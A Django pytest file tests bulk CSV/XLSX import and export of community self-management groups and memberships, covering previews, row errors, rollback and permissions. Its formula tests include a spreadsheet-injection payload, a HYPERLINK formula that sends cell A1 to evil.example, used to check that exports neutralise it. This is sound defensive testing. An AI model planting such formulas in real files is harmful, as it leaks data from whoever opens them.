"""Bulk import and export of groups and memberships through the admin (CSV and XLSX).

Every import goes through the real two steps: upload (a dry run that shows the preview
or the bad rows) and confirm (the import itself). A file with any bad row saves nothing.
"""

import csv
import datetime
import io
import re
from html import unescape

import openpyxl
import pytest
from django.contrib.auth.models import Permission
from django.contrib.messages import get_messages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from groups.models import Member, Membership, ModelType, SelfManagementGroup, User
from groups.resources import GroupResource, MembershipResource

GROUP_COLUMNS = ["id", "name", "ward_code", "unit", "model_kinds", "founded", "status"]
MEMBERSHIP_COLUMNS = [
    "full_name",
    "phone",
    "group_id",
    "role",
    "is_leader",
    "is_deputy",
    "started",
    "ended",
]
CSV_FORMAT, XLSX_FORMAT = "0", "1"  # the order of the admin's import_formats/export_formats
# Model kinds the data migration seeds (conftest's five_families is the first).
FIVE_FAMILIES = "Tổ liên gia, 5 nhà đoàn kết"
TIP_BOX = "Hòm thư tố giác tội phạm"
YOUTH_CLUB = "Câu lạc bộ Thanh niên với pháp luật"


@pytest.fixture
def clerk(db):
    """A province administrator who runs imports: superuser, so every model permission."""
    return User.objects.create_user(
        username="clerk",
        password="pw",
        role=User.Role.PROVINCE_ADMIN,
        is_staff=True,
        is_superuser=True,
    )


@pytest.fixture
def clerk_client(client, clerk):
    client.force_login(clerk)
    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"
    return client


@pytest.fixture
def tip_box(seeded):
    return ModelType.objects.get(name=TIP_BOX)


@pytest.fixture
def youth_club(seeded):
    return ModelType.objects.get(name=YOUTH_CLUB)


def _url(model, step):
    return reverse(f"admin:groups_{model._meta.model_name}_{step}")


def _csv(columns, rows) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(columns)
    writer.writerows(rows)
    return out.getvalue().encode()


def _xlsx(columns, rows) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(columns)
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _upload(client, model, content, *, name="import.csv", file_format=CSV_FORMAT):
    """The first step: the file is read in a dry run and the preview or the errors shown."""
    return client.post(
        _url(model, "import"),
        {"format": file_format, "import_file": SimpleUploadedFile(name, content)},
    )


def _confirm(client, model, preview):
    return client.post(_url(model, "process_import"), preview.context["confirm_form"].initial)


def _problems(response) -> set[tuple[int, str, str]]:
    """(line, column, reason) of every bad row the import page lists."""
    html = response.content.decode()
    table = html[html.index('class="import-preview import-errors"') :]
    rows = re.findall(
        r"<tr>\s*<td>(\d+)</td>\s*<td>(.*?)</td>\s*<td>(.*?)</td>\s*</tr>", table, re.S
    )
    return {(int(line), unescape(column), unescape(reason)) for line, column, reason in rows}


def _export(client, model, resource, file_format) -> list[dict]:
    selected = {
        f"{resource.__name__.lower()}_{field}": "on" for field in resource().get_export_order()
    }
    response = client.post(_url(model, "export"), {"format": file_format, **selected})
    assert response.status_code == 200
    if file_format == CSV_FORMAT:
        assert response["Content-Type"].startswith("text/csv")
        return list(csv.DictReader(io.StringIO(response.content.decode())))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header, *rows = sheet.iter_rows(values_only=True)
    return [dict(zip(header, row, strict=True)) for row in rows]


def _kinds(group) -> set[str]:
    return set(group.model_types.values_list("name", flat=True))


# Groups: import


def test_clerk_previews_a_csv_of_groups_then_confirms_and_the_groups_are_saved(
    clerk_client, ward_a, unit_a1, five_families, tip_box
):
    content = _csv(
        GROUP_COLUMNS,
        [
            [
                "",
                "Tổ tự quản TDP 2",
                "07030",
                "Tổ dân phố 1",
                f"{FIVE_FAMILIES}; {TIP_BOX}",
                "2023-04-01",
                "active",
            ],
            ["", "Tổ an ninh chợ Hạ Long", "07030", "", TIP_BOX, "", ""],
        ],
    )

    preview = _upload(clerk_client, SelfManagementGroup, content)

    assert preview.status_code == 200
    assert preview.context["confirm_form"] is not None
    page = preview.content.decode()
    assert "Tổ tự quản TDP 2" in page
    assert "Tổ an ninh chợ Hạ Long" in page
    assert not SelfManagementGroup.objects.exists()  # the preview saved nothing

    done = _confirm(clerk_client, SelfManagementGroup, preview)

    assert done.status_code == 302
    assert done["Location"] == _url(SelfManagementGroup, "changelist")
    tdp2 = SelfManagementGroup.objects.get(name="Tổ tự quản TDP 2")
    assert (tdp2.ward, tdp2.unit, tdp2.founded) == (ward_a, unit_a1, datetime.date(2023, 4, 1))
    assert tdp2.status == SelfManagementGroup.Status.ACTIVE
    assert _kinds(tdp2) == {FIVE_FAMILIES, TIP_BOX}
    market = SelfManagementGroup.objects.get(name="Tổ an ninh chợ Hạ Long")
    assert (market.ward, market.unit, market.founded) == (ward_a, None, None)
    assert market.status == SelfManagementGroup.Status.ACTIVE  # blank status: the default
    assert _kinds(market) == {TIP_BOX}


def test_clerk_imports_groups_from_an_xlsx_file_with_date_cells_and_a_numeric_ward_code(
    clerk_client, ward_a, ward_b, unit_b1, five_families
):
    # Excel turns a typed 07030 into the number 7030 and a typed date into a date cell.
    kind = FIVE_FAMILIES
    content = _xlsx(
        GROUP_COLUMNS,
        [
            [None, "Tổ tự quản khu 3", 7030, None, kind, datetime.date(2019, 3, 15), "active"],
            [None, "Tổ tự quản Đồng Mỏ 2", "07150", "Thôn Đồng Mỏ", kind, None, "dissolved"],
        ],
    )

    preview = _upload(
        clerk_client, SelfManagementGroup, content, name="groups.xlsx", file_format=XLSX_FORMAT
    )
    assert preview.context["confirm_form"] is not None
    assert "Tổ tự quản khu 3" in preview.content.decode()
    done = _confirm(clerk_client, SelfManagementGroup, preview)

    assert done.status_code == 302
    khu3 = SelfManagementGroup.objects.get(name="Tổ tự quản khu 3")
    assert (khu3.ward, khu3.founded) == (ward_a, datetime.date(2019, 3, 15))
    dong_mo = SelfManagementGroup.objects.get(name="Tổ tự quản Đồng Mỏ 2")
    assert (dong_mo.ward, dong_mo.unit) == (ward_b, unit_b1)
    assert dong_mo.status == SelfManagementGroup.Status.DISSOLVED


def test_a_csv_with_bad_group_rows_lists_each_by_line_and_reason_and_saves_nothing(
    clerk_client, group_x, unit_b1, tip_box
):
    content = _csv(
        GROUP_COLUMNS,
        [
            # line 2, good: adds the tip box to group X
            ["", "Tổ tự quản TDP 1", "07030", "", f"{FIVE_FAMILIES}; {TIP_BOX}", "", ""],
            ["", "Tổ tự quản A", "99999", "", TIP_BOX, "", ""],
            ["", "Tổ tự quản B", "07030", "", "Đội bóng đá", "", ""],
            ["", "Tổ tự quản C", "07030", "", TIP_BOX, "01/04/2023", ""],
            ["", "Tổ tự quản D", "07030", "", TIP_BOX, "", ""],  # line 6, good
            ["", "Tổ tự quản E", "07030", "Thôn Đồng Mỏ", TIP_BOX, "", ""],
            ["", "Tổ tự quản F", "22", "", TIP_BOX, "", "closed"],
        ],
    )

    response = _upload(clerk_client, SelfManagementGroup, content)

    assert response.status_code == 200
    assert response.context.get("confirm_form") is None
    assert _problems(response) == {
        (3, "ward_code", "No commune/ward has the code “99999”."),
        (4, "model_kinds", "Unknown model kind: Đội bóng đá."),
        (
            5,
            "founded",
            "“01/04/2023” is not a date; write dates as YYYY-MM-DD, for example 2024-03-31.",
        ),
        (7, "unit", "Phường Hạ Long has no residential unit named “Thôn Đồng Mỏ”."),
        (8, "ward_code", "“22” is the code of Quảng Ninh, which is not a commune/ward."),
        (8, "status", "“closed” is not allowed here; use one of: active, dissolved."),
    }
    assert "Traceback" not in response.content.decode()
    assert list(SelfManagementGroup.objects.values_list("name", flat=True)) == [group_x.name]
    assert _kinds(group_x) == {FIVE_FAMILIES}


def test_a_file_without_the_ward_code_column_is_refused_naming_the_column(
    clerk_client, five_families
):
    content = _csv(["name", "model_kinds"], [["Tổ tự quản G", FIVE_FAMILIES]])

    response = _upload(clerk_client, SelfManagementGroup, content)

    assert response.context.get("confirm_form") is None
    assert "The file has no column ward_code; the first line must name the columns." in unescape(
        response.content.decode()
    )
    assert not SelfManagementGroup.objects.exists()


def test_groups_and_kinds_roll_back_when_a_row_turns_bad_between_preview_and_confirm(
    clerk_client, group_x, tip_box, youth_club
):
    content = _csv(
        GROUP_COLUMNS,
        [
            ["", "Tổ tự quản TDP 1", "07030", "", f"{FIVE_FAMILIES}; {TIP_BOX}", "", ""],
            ["", "CLB thanh niên", "07030", "", YOUTH_CLUB, "", ""],
        ],
    )
    preview = _upload(clerk_client, SelfManagementGroup, content)
    assert preview.context["confirm_form"] is not None
    youth_club.delete()  # someone removes the kind the second row names

    done = _confirm(clerk_client, SelfManagementGroup, preview)

    assert done.status_code == 302
    assert done["Location"] == _url(SelfManagementGroup, "import")
    [message] = get_messages(done.wsgi_request)
    assert str(message).startswith("Nothing was imported")
    # The first row had already been saved with its kinds; the rollback undid both.
    assert not SelfManagementGroup.objects.filter(name="CLB thanh niên").exists()
    assert _kinds(group_x) == {FIVE_FAMILIES}


# Groups: export and re-import


def test_clerk_exports_every_group_as_csv_and_as_xlsx(clerk_client, group_x, group_y):
    as_csv = _export(clerk_client, SelfManagementGroup, GroupResource, CSV_FORMAT)
    as_xlsx = _export(clerk_client, SelfManagementGroup, GroupResource, XLSX_FORMAT)

    # In Vietnamese alphabetical order of the name: Đ comes before T.
    assert as_csv == [
        {
            "id": str(group_y.pk),
            "name": "Tổ tự quản Đồng Mỏ",
            "ward_code": "07150",
            "unit": "Thôn Đồng Mỏ",
            "model_kinds": FIVE_FAMILIES,
            "founded": "",
            "status": "active",
        },
        {
            "id": str(group_x.pk),
            "name": "Tổ tự quản TDP 1",
            "ward_code": "07030",
            "unit": "Tổ dân phố 1",
            "model_kinds": FIVE_FAMILIES,
            "founded": "2020-05-01",
            "status": "active",
        },
    ]
    # Formula escaping (IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT) writes numbers as text cells.
    assert [(row["id"], row["name"], row["ward_code"]) for row in as_xlsx] == [
        (str(group_y.pk), "Tổ tự quản Đồng Mỏ", "07150"),
        (str(group_x.pk), "Tổ tự quản TDP 1", "07030"),
    ]
    assert as_xlsx[1]["founded"] == "2020-05-01"


def test_reimporting_an_exported_group_file_updates_the_groups_without_duplicates(
    clerk_client, group_x, group_y, tip_box
):
    exported = _export(clerk_client, SelfManagementGroup, GroupResource, CSV_FORMAT)
    by_id = {row["id"]: row for row in exported}
    by_id[str(group_x.pk)]["model_kinds"] = f"{FIVE_FAMILIES}; {TIP_BOX}"
    by_id[str(group_y.pk)]["founded"] = "2018-09-02"
    content = _csv(GROUP_COLUMNS, [[row[column] for column in GROUP_COLUMNS] for row in exported])

    preview = _upload(clerk_client, SelfManagementGroup, content)
    assert preview.context["result"].totals["update"] == 2
    _confirm(clerk_client, SelfManagementGroup, preview)

    assert SelfManagementGroup.objects.count() == 2
    assert _kinds(group_x) == {FIVE_FAMILIES, TIP_BOX}
    group_y.refresh_from_db()
    assert group_y.founded == datetime.date(2018, 9, 2)


def test_ward_police_with_staff_access_export_only_their_wards_groups_and_members(
    client, police_a, group_x, group_y, leader_x, leader_y
):
    police_a.is_staff = True
    police_a.save(update_fields=["is_staff"])
    police_a.user_permissions.add(
        *Permission.objects.filter(codename__in=["view_selfmanagementgroup", "view_membership"])
    )
    client.force_login(police_a)

    groups = _export(client, SelfManagementGroup, GroupResource, CSV_FORMAT)
    members = _export(client, Membership, MembershipResource, XLSX_FORMAT)

    assert [row["name"] for row in groups] == [group_x.name]
    assert [(row["full_name"], row["group_id"]) for row in members] == [
        ("Leader X", str(group_x.pk))
    ]
    # Viewing is not importing: the import needs the add and change permissions.
    assert client.get(_url(SelfManagementGroup, "import")).status_code == 403


def test_an_import_cannot_change_or_add_groups_beyond_what_the_user_may_change(
    client, police_a, group_x
):
    # Ward police see their ward's groups and change none, whatever model permissions
    # an administrator gave their staff account.
    police_a.is_staff = True
    police_a.save(update_fields=["is_staff"])
    police_a.user_permissions.add(
        *Permission.objects.filter(
            codename__in=["add_selfmanagementgroup", "change_selfmanagementgroup"]
        )
    )
    client.force_login(police_a)
    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"
    content = _csv(
        GROUP_COLUMNS,
        [
            ["", group_x.name, "07030", "", FIVE_FAMILIES, "2010-01-01", ""],
            ["", "Tổ tự quản mới", "07030", "", FIVE_FAMILIES, "", ""],
        ],
    )

    response = _upload(client, SelfManagementGroup, content)

    assert _problems(response) == {
        (2, "—", "You may not change “Tổ tự quản TDP 1”."),
        (3, "—", "You may not add “Tổ tự quản mới”."),
    }
    assert list(SelfManagementGroup.objects.values_list("name", flat=True)) == [group_x.name]
    group_x.refresh_from_db()
    assert group_x.founded == datetime.date(2020, 5, 1)


def test_staff_without_view_permission_cannot_export_groups(client, police_a, group_x):
    police_a.is_staff = True
    police_a.save(update_fields=["is_staff"])
    client.force_login(police_a)

    response = client.post(_url(SelfManagementGroup, "export"), {"format": CSV_FORMAT})

    assert response.status_code == 403


def test_group_export_runs_the_same_number_of_queries_however_many_groups(
    clerk_client, group_x, ward_a, five_families, tip_box
):
    with CaptureQueriesContext(connection) as one_group:
        _export(clerk_client, SelfManagementGroup, GroupResource, CSV_FORMAT)
    for number in range(3):
        group = SelfManagementGroup.objects.create(name=f"Tổ {number}", ward=ward_a)
        group.model_types.add(five_families, tip_box)

    with CaptureQueriesContext(connection) as four_groups:
        rows = _export(clerk_client, SelfManagementGroup, GroupResource, CSV_FORMAT)

    assert len(rows) == 4
    assert len(four_groups) == len(one_group)


# Memberships


def test_clerk_imports_memberships_finding_known_people_and_creating_new_ones(
    clerk_client, group_x, group_y, member_x
):
    people_before = Member.objects.count()
    content = _csv(
        MEMBERSHIP_COLUMNS,
        [
            ["Nguyễn Văn Bình", "0912345678", group_x.pk, "cadre", "0", "1", "2024-01-01", ""],
            ["Member X", "", group_y.pk, "", "", "", "2024-02-01", ""],
        ],
    )

    preview = _upload(clerk_client, Membership, content)
    assert preview.context["confirm_form"] is not None
    assert "Nguyễn Văn Bình" in preview.content.decode()
    assert Member.objects.count() == people_before  # the preview created nobody
    done = _confirm(clerk_client, Membership, preview)

    assert done.status_code == 302
    assert Member.objects.count() == people_before + 1
    binh = Membership.objects.get(member__full_name="Nguyễn Văn Bình")
    assert (binh.group, binh.role, binh.is_leader, binh.is_deputy) == (
        group_x,
        Membership.Role.CADRE,
        False,
        True,
    )
    assert binh.member.phone == "0912345678"
    in_y = Membership.objects.get(member=member_x.member, group=group_y)
    assert (in_y.role, in_y.started) == (Membership.Role.VOLUNTEER, datetime.date(2024, 2, 1))


def test_a_csv_with_bad_membership_rows_lists_each_by_line_and_reason_and_saves_nothing(
    clerk_client, group_x
):
    people_before = set(Member.objects.values_list("pk", flat=True))
    memberships_before = set(Membership.objects.values_list("pk", flat=True))
    x = group_x.pk
    content = _csv(
        MEMBERSHIP_COLUMNS,
        [
            ["Trần Thị Cúc", "0911000002", x, "volunteer", "0", "0", "2024-01-01", ""],  # good
            ["Lê Văn Dũng", "0911000003", 999999, "volunteer", "0", "0", "", ""],
            ["Phạm Thị Hoa", "0911000004", x, "volunteer", "1", "1", "", ""],
            ["Hoàng Văn Khải", "0911000005", x, "boss", "0", "0", "", ""],
            ["Vũ Thị Lan", "0911000006", x, "volunteer", "0", "0", "2024-05-01", "2024-04-30"],
            ["Đỗ Văn Minh", "0911000007", x, "volunteer", "0", "0", "2024-13-01", ""],
            ["", "0911000008", x, "volunteer", "0", "0", "", ""],
        ],
    )

    response = _upload(clerk_client, Membership, content)

    assert response.context.get("confirm_form") is None
    roles = ", ".join(Membership.Role.values)
    both = "A person cannot be both leader and deputy leader of a group; choose one."
    bad_date = "“2024-13-01” is not a date; write dates as YYYY-MM-DD, for example 2024-03-31."
    assert _problems(response) == {
        (3, "group_id", "Unknown group id “999999”."),
        (4, "is_deputy", both),
        (5, "role", f"“boss” is not allowed here; use one of: {roles}."),
        (6, "ended", "A membership cannot end before it starts."),
        (7, "started", bad_date),
        (8, "full_name", "Give the person's full name."),
    }
    assert set(Member.objects.values_list("pk", flat=True)) == people_before
    assert set(Membership.objects.values_list("pk", flat=True)) == memberships_before


def test_new_people_roll_back_when_a_membership_row_turns_bad_between_preview_and_confirm(
    clerk_client, group_x, group_y
):
    people_before = Member.objects.count()
    content = _csv(
        MEMBERSHIP_COLUMNS,
        [
            ["Trần Thị Cúc", "0911000002", group_x.pk, "volunteer", "0", "0", "", ""],
            ["Lê Văn Dũng", "0911000003", group_y.pk, "volunteer", "0", "0", "", ""],
        ],
    )
    preview = _upload(clerk_client, Membership, content)
    assert preview.context["confirm_form"] is not None
    group_y.delete()  # the second row's group is gone by the time the clerk confirms

    done = _confirm(clerk_client, Membership, preview)

    assert done["Location"] == _url(Membership, "import")
    assert Member.objects.count() == people_before
    assert not Membership.objects.filter(member__full_name="Trần Thị Cúc").exists()


def test_reimporting_an_exported_membership_file_updates_without_duplicates(
    clerk_client, group_x, leader_x, member_x
):
    exported = _export(clerk_client, Membership, MembershipResource, CSV_FORMAT)
    assert [(row["full_name"], row["is_leader"]) for row in exported] == [
        ("Leader X", "1"),
        ("Member X", "0"),
    ]
    exported[1]["ended"] = "2025-06-30"
    content = _csv(
        MEMBERSHIP_COLUMNS, [[row[column] for column in MEMBERSHIP_COLUMNS] for row in exported]
    )
    people_before = Member.objects.count()

    preview = _upload(clerk_client, Membership, content)
    assert preview.context["result"].totals["update"] == 2
    _confirm(clerk_client, Membership, preview)

    assert Member.objects.count() == people_before
    assert Membership.objects.count() == 2
    ended = Membership.objects.get(member__user=member_x)
    assert ended.ended == datetime.date(2025, 6, 30)


def test_a_second_open_membership_of_the_same_person_and_group_is_a_row_error(
    clerk_client, group_x, member_x
):
    # Member X is in group X since 2021-01-01 (conftest); another start date is a new row.
    content = _csv(
        MEMBERSHIP_COLUMNS, [["Member X", "", group_x.pk, "volunteer", "0", "0", "2023-01-01", ""]]
    )

    response = _upload(clerk_client, Membership, content)

    assert response.context.get("confirm_form") is None
    assert _problems(response) == {
        (
            2,
            "ended",
            "This person already has an open membership in this group; give the start date "
            "of that membership or an end date for this one.",
        )
    }


def test_a_leader_may_import_members_only_into_a_group_they_lead(
    client, leader_x, group_x, group_y
):
    leader_x.is_staff = True
    leader_x.save(update_fields=["is_staff"])
    leader_x.user_permissions.add(
        *Permission.objects.filter(
            codename__in=["view_membership", "add_membership", "change_membership"]
        )
    )
    client.force_login(leader_x)
    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"
    content = _csv(
        MEMBERSHIP_COLUMNS,
        [
            ["Trần Thị Cúc", "0911000002", group_x.pk, "volunteer", "0", "0", "", ""],
            ["Lê Văn Dũng", "0911000003", group_y.pk, "volunteer", "0", "0", "", ""],
        ],
    )

    response = _upload(client, Membership, content)

    assert _problems(response) == {(3, "group_id", f"Unknown group id “{group_y.pk}”.")}
    assert not Member.objects.filter(full_name__in=["Trần Thị Cúc", "Lê Văn Dũng"]).exists()


def test_the_membership_resource_saves_nothing_of_a_bad_batch_whoever_calls_it(clerk, group_x):
    # Outside the admin (a shell, a command) the batch is still all or nothing.
    dataset = MembershipResource(user=clerk).export(Membership.objects.none())
    dataset.append(["Trần Thị Cúc", "0911000002", group_x.pk, "volunteer", "0", "0", "", ""])
    dataset.append(["Lê Văn Dũng", "0911000003", 999999, "volunteer", "0", "0", "", ""])

    result = MembershipResource(user=clerk).import_data(dataset, dry_run=False)

    assert result.has_validation_errors()
    assert not Member.objects.filter(full_name="Trần Thị Cúc").exists()
    assert not Membership.objects.filter(group=group_x, member__full_name="Trần Thị Cúc").exists()


# Formulas: never run in the clerk's spreadsheet, and what is exported imports back


FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Xem")'
TRICKY_NAMES = [FORMULA_NAME, "'Trích dẫn", "-Âm", "@Tên"]


def _export_file(client, model, resource, file_format) -> bytes:
    selected = {
        f"{resource.__name__.lower()}_{field}": "on" for field in resource().get_export_order()
    }
    response = client.post(_url(model, "export"), {"format": file_format, **selected})
    assert response.status_code == 200
    return response.content


@pytest.fixture
def tricky_people(group_x):
    people = []
    for number, name in enumerate(TRICKY_NAMES):
        person = Member.objects.create(full_name=name, phone=f"+8491200000{number}")
        Membership.objects.create(member=person, group=group_x, started=datetime.date(2024, 1, 1))
        people.append(person)
    return people


def test_a_csv_export_neutralises_formulas_and_imports_back_unchanged(clerk_client, tricky_people):
    content = _export_file(clerk_client, Membership, MembershipResource, CSV_FORMAT)

    rows = list(csv.DictReader(io.StringIO(content.decode())))
    cells = {row["full_name"] for row in rows}
    # No cell starts as a formula: each such text is quoted for the spreadsheet.
    assert cells == {"'" + name for name in TRICKY_NAMES}
    assert {row["phone"] for row in rows} == {f"'+8491200000{n}" for n in range(4)}
    people_before = Member.objects.count()

    preview = _upload(clerk_client, Membership, content)
    assert preview.context["result"].totals["update"] == len(TRICKY_NAMES), preview.content
    _confirm(clerk_client, Membership, preview)

    assert Member.objects.count() == people_before
    for person in tricky_people:
        saved = Member.objects.get(pk=person.pk)
        assert (saved.full_name, saved.phone) == (person.full_name, person.phone)


def test_an_xlsx_export_stores_formulas_as_text_and_imports_back_unchanged(
    clerk_client, tricky_people
):
    content = _export_file(clerk_client, Membership, MembershipResource, XLSX_FORMAT)

    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    header = [cell.value for cell in sheet[1]]
    names = [row[header.index("full_name")] for row in sheet.iter_rows(min_row=2)]
    # The value exactly as saved, in a text cell: no spreadsheet evaluates it.
    assert sorted(cell.value for cell in names) == sorted(TRICKY_NAMES)
    assert {cell.data_type for cell in names} == {"s"}
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    people_before = Member.objects.count()

    preview = _upload(
        clerk_client, Membership, content, name="export.xlsx", file_format=XLSX_FORMAT
    )
    assert preview.context["result"].totals["update"] == len(TRICKY_NAMES), preview.content
    _confirm(clerk_client, Membership, preview)

    assert Member.objects.count() == people_before
    for person in tricky_people:
        saved = Member.objects.get(pk=person.pk)
        assert (saved.full_name, saved.phone) == (person.full_name, person.phone)


def test_a_hand_typed_quote_before_a_formula_is_read_as_the_text_after_it(clerk_client, group_x):
    content = _csv(
        MEMBERSHIP_COLUMNS,
        [["'=1+1", "'+84912000009", group_x.pk, "volunteer", "0", "0", "2024-01-01", ""]],
    )

    preview = _upload(clerk_client, Membership, content)
    _confirm(clerk_client, Membership, preview)

    person = Member.objects.get(memberships__group=group_x)
    assert (person.full_name, person.phone) == ("=1+1", "+84912000009")
